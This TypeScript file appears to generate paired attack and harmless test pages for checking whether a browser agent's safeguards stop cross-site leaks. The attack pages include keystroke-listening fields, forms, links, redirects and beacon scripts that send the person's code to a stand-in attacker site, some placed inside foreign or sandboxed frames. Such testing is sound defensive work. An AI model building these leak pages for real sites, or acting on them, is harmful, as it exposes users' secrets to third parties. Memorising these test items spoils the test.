/** Family 6: frames of other sites, sites allowed for an earlier task, and values carried from one site to another. */
import { effectOf, escapeHtml, order, page, readOf, readScript, sendScript } from '../markup.ts';
import type { Mix } from '../mix.ts';
import type { SiteName, SitePages, Trial } from '../trial.ts';
import { searchField } from '../words.ts';
import { type Scenario, type Side, sideOf } from './pair.ts';

type Scene = {
  readonly body: string;
  readonly script?: string;
  readonly orders: readonly string[];
  readonly pages?: Partial<Record<SiteName, SitePages>>;
  readonly isKnowable?: boolean;
  /** The attack's target is in a frame of another site, which must not even be read. */
  readonly isForeign?: boolean;
};

const framed = (name: string, scene: (side: Side) => Scene): Scenario => ({
  name,
  build: (mix) => {
    const side = (isAttack: boolean): Trial => {
      const {
        pages: more,
        isKnowable = true,
        isForeign = false,
        ...parts
      } = scene(sideOf(mix, isAttack));
      const { victim, ...others } = more ?? {};
      return {
        pages: { victim: { '/': page(mix, { shape: 'plain', ...parts }), ...victim }, ...others },
        person: isAttack ? 'skips' : 'approves',
        due: 0,
        isKnowable,
        ...(isAttack &&
          isForeign && { oracles: [{ kind: 'unread' as const, words: insideWords(mix) }] }),
        ...(!isAttack && { wanted: { [readOf(mix)]: 1 } }),
      };
    };
    return { attack: side(true), twin: side(false) };
  },
});

const frame = (src: string, rest = ''): string =>
  `<iframe src="${src}" title="Box" width="500" height="300"${rest}></iframe>`;

const insideWords = ({ token }: Mix): string => `inside ${token}`;

/** Returns the content of a frame: one control with a harmless label. Its effect depends on the frame's site. */
const inside = (mix: Mix, script: string, body?: string): string =>
  page(mix, {
    body: `<p>${insideWords(mix)}</p>${body ?? `<button type="button" onclick="act()">${escapeHtml(mix.harmless)}</button>`}`,
    script,
    shape: 'plain',
    orders: [],
  });

const siteScript = (mix: Mix, isAttack: boolean): string =>
  isAttack ? sendScript({ url: effectOf(mix), mix }) : readScript(mix.path);

const inFrame = (name: string, site: SiteName, rest = ''): Scenario =>
  framed(name, ({ mix, isAttack }) => ({
    body: frame(isAttack ? `{{${site}}}/frame` : '/frame', isAttack ? rest : ''),
    pages: { [isAttack ? site : 'victim']: { '/frame': inside(mix, siteScript(mix, isAttack)) } },
    isForeign: true,
    orders: [order('click', mix.harmless)],
  }));

/** Returns a field whose page sends each letter as it is typed. */
const listening = ({ mix, isAttack }: Side): string =>
  `<input type="search" aria-label="${escapeHtml(searchField[mix.language])}" oninput="fetch('${isAttack ? effectOf(mix) : readOf(mix)}?v='+encodeURIComponent(this.value),{method:'${isAttack ? 'POST' : 'GET'}'});this.oninput=null">`;

export const frames: readonly Scenario[] = [
  inFrame('button in a frame of a site never allowed', 'attacker'),
  inFrame('button in a frame of a site allowed earlier', 'third'),
  inFrame('button in a sandboxed frame', 'attacker', ' sandbox="allow-scripts allow-forms"'),
  framed('button in a frame within a frame', ({ mix, isAttack }) => {
    const site = isAttack ? 'attacker' : 'victim';
    return {
      body: frame('/outer'),
      pages: {
        victim: {
          '/outer': `<!doctype html>${frame(isAttack ? '{{attacker}}/frame' : '/frame')}`,
          ...(!isAttack && { '/frame': inside(mix, siteScript(mix, false)) }),
        },
        ...(site === 'attacker' && { attacker: { '/frame': inside(mix, siteScript(mix, true)) } }),
      },
      isForeign: true,
      orders: [order('click', mix.harmless)],
    };
  }),
  framed('value of this site typed into a frame of another', (side) => {
    const { mix, isAttack } = side;
    return {
      body: `<p>Code of the person: ${mix.token}</p>${frame(isAttack ? '{{attacker}}/frame' : '/frame')}`,
      pages: {
        [isAttack ? 'attacker' : 'victim']: { '/frame': inside(mix, '', listening(side)) },
      },
      isForeign: true,
      orders: [order('fill', searchField[mix.language], mix.token)],
    };
  }),
  framed('value put into an address of another site', ({ mix, isAttack }) => ({
    body: `<p>Code of the person: ${mix.token}</p>${isAttack ? '' : `<a href="${readOf(mix)}?v=${mix.token}">${escapeHtml(mix.harmless)}</a>`}`,
    orders: [
      order(
        'goto',
        isAttack
          ? `{{attacker}}${effectOf(mix)}?v=${mix.token}`
          : `{{victim}}${readOf(mix)}?v=${mix.token}`,
      ),
    ],
  })),
  framed('form that sends to another site', ({ mix, isAttack }) => ({
    body: `<form method="${isAttack ? 'post' : 'get'}" action="${isAttack ? '{{attacker}}' : ''}${isAttack ? effectOf(mix) : readOf(mix)}"><input type="search" name="q" aria-label="${escapeHtml(searchField[mix.language])}"><button>${escapeHtml(mix.harmless)}</button></form>`,
    orders: [order('fill', searchField[mix.language], mix.token), order('click', mix.harmless)],
  })),
  framed('search form that asks another site', ({ mix, isAttack }) => ({
    body: `<form role="search" method="get" action="${isAttack ? `{{attacker}}${effectOf(mix)}` : readOf(mix)}"><input type="search" name="q" aria-label="${escapeHtml(searchField[mix.language])}"></form>`,
    orders: [order('fill', searchField[mix.language], mix.token, 'submit')],
  })),
  framed('link to another site', ({ mix, isAttack }) => ({
    body: `<a href="${isAttack ? `{{attacker}}${effectOf(mix)}?v=${mix.token}` : readOf(mix)}">${escapeHtml(mix.harmless)}</a>`,
    orders: [order('click', mix.harmless)],
  })),
  framed('redirect to another site', ({ mix, isAttack }) => ({
    body: `<a href="/hop?to=${isAttack ? `{{attacker}}${effectOf(mix)}?v=${mix.token}` : `{{victim}}${readOf(mix)}`}">${escapeHtml(mix.harmless)}</a>`,
    orders: [order('click', mix.harmless)],
  })),
  framed('button that calls another site', ({ mix, isAttack }) => ({
    body: `<button type="button" onclick="act()">${escapeHtml(mix.harmless)}</button>`,
    script: isAttack
      ? sendScript({
          url: `{{attacker}}${effectOf(mix)}`,
          body: `v=${mix.token}`,
          mix: { ...mix, channel: 'beacon' },
        })
      : readScript(mix.path),
    isKnowable: false,
    orders: [order('click', mix.harmless)],
  })),
  framed('key in a frame without a ref', ({ mix, isAttack }) => ({
    body: frame(isAttack ? '{{attacker}}/frame' : '/frame'),
    pages: {
      [isAttack ? 'attacker' : 'victim']: {
        '/frame': inside(
          mix,
          `${siteScript(mix, isAttack)};addEventListener('load',()=>document.querySelector('button').focus())`,
        ),
      },
    },
    isForeign: true,
    orders: [order('press', mix.harmless, 'Enter')],
  })),
  framed('frame whose document is in an attribute', ({ mix, isAttack, label }) => ({
    body: `<iframe title="Box" width="500" height="300" srcdoc="${escapeHtml(inside(mix, siteScript(mix, isAttack), `<button type="button" onclick="act()">${escapeHtml(label)}</button>`))}"></iframe>`,
    orders: [order('click', label)],
  })),
];
